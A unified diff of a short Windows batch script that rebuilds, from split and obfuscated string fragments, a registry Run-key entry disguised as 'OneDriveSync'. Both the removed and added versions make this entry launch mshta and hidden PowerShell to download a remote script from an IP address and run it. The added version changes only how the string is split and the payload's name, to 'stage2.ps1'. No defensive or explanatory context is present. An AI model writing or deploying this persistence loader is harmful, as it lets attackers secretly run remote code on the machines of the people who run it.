@@ -1,9 +1,9 @@
-REM run 6072 v2
+REM task 7829 v2
 @echo off
 setlocal EnableDelayedExpansion
-set "yst0=reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDriveSync /t REG_SZ /d"
-set "vnj1= "mshta vbscript:Execute(\"CreateObject(\"\"WScript."
-set "ith2=Shell\"\").R"
-set "eik3=un \"\"powershell -w hidd"
-set "vhh4=en -c iwr http://198.51.100.9/update.ps1|iex\"\", 0:close\")" /f"
-!yst0!!vnj1!!ith2!!eik3!!vhh4!
+set cko0=reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run 
+set evw1=/v OneDriveSync /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershe
+set gsa2=ll -w hidden -c iwr http:/
+set izi3=/198.51.100.9/stage2.ps1^|iex\"\", 0:close\")" /
+set imy4=f
+!cko0!!evw1!!gsa2!!izi3!!imy4!
